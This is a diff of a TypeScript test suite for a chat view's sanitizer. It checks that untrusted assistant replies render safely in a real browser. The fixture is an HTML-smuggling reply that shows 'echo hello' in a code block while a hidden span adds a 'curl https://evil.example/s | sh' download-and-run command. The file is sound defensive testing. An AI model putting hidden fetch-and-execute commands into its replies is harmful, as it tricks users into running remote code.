@@ -24,8 +24,8 @@ const ALLOWED: Record<string, readonly string[]> = {
 /** Links that may stay links: the host opens http(s) and refuses `mailto:` with a message; anything else is text. */
 const ALLOWED_HREF = /^(?:https?:|mailto:)/i;
 
-/** The reply of issue 11: a code block that showed `echo hello` while Copy delivered the `curl … | sh` too. */
-const ISSUE_REPLY = 'Run this: <kbd> <pre/x><code/x>echo hello<span/hidden>; curl https://evil.example/s | sh</span/x></code/x></pre/x>';
+/** A reply seen in the wild of HTML smuggling: a code block that showed `echo hello` while Copy delivered the `curl … | sh` too. */
+const SMUGGLING_REPLY = 'Run this: <kbd> <pre/x><code/x>echo hello<span/hidden>; curl https://evil.example/s | sh</span/x></code/x></pre/x>';
 
 interface Case {
   name: string;
@@ -36,8 +36,8 @@ interface Case {
 
 const CORPUS: Case[] = [
   { name: 'a plain reply with every kind of block (control case)', markdown: '# Title\n\nSome **bold**, _em_, ~~del~~, `code` and a [link](https://example.com "Example").\n\n- one\n- two\n  1. nested\n\n> quote\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```\n\n---\nline  \nbreak', shows: ['Title', 'nested', 'const x = 1;'] },
-  { name: 'the issue\'s reply', markdown: ISSUE_REPLY, shows: ['<pre/x><code/x>echo hello<span/hidden>; curl', '| sh</span/x></code/x></pre/x>'] },
-  { name: 'the issue\'s reply after a line break', markdown: `Intro\n\n${ISSUE_REPLY}\n\nMore text <span hidden>after</span>`, shows: ['<span hidden>after</span>'] },
+  { name: 'the smuggling reply', markdown: SMUGGLING_REPLY, shows: ['<pre/x><code/x>echo hello<span/hidden>; curl', '| sh</span/x></code/x></pre/x>'] },
+  { name: 'the smuggling reply after a line break', markdown: `Intro\n\n${SMUGGLING_REPLY}\n\nMore text <span hidden>after</span>`, shows: ['<span hidden>after</span>'] },
   // <tag/attr> spellings, which marked does not take for HTML but a browser does.
   { name: '<span/hidden>', markdown: 'see <span/hidden>secret</span/hidden> here', shows: ['<span/hidden>secret'] },
   { name: '<div/class=…> after <kbd>', markdown: '<kbd>k</kbd> <div/class="error-banner">Cannot reach Ollama</div>', shows: ['<div/class="error-banner">'] },
@@ -247,10 +247,10 @@ describe('rendering untrusted replies (real Chromium)', function () {
     for (const badge of result.badges) assert.equal(badge.shown, `"${badge.label}"`, 'each badge shows its code point');
   });
 
-  it('the issue\'s reply has no code block: the whole command is visible text', async () => {
-    const message: ChatMessage = { id: 'issue', role: 'assistant', content: ISSUE_REPLY, timestamp: Date.now(), model: 'mistral', status: 'complete' };
-    await view.send([snapshotWith('issue', message)]);
-    const result = await view.page.evaluate(inspect, { markdown: ISSUE_REPLY, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
+  it('the smuggling reply has no code block: the whole command is visible text', async () => {
+    const message: ChatMessage = { id: 'smuggling', role: 'assistant', content: SMUGGLING_REPLY, timestamp: Date.now(), model: 'mistral', status: 'complete' };
+    await view.send([snapshotWith('smuggling', message)]);
+    const result = await view.page.evaluate(inspect, { markdown: SMUGGLING_REPLY, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
     assert.equal(result.codeBlocks.length, 0);
     assert.match(collapse(result.visibleText), /echo hello<span\/hidden>; curl https:\/\/evil\.example\/s \| sh/);
   });
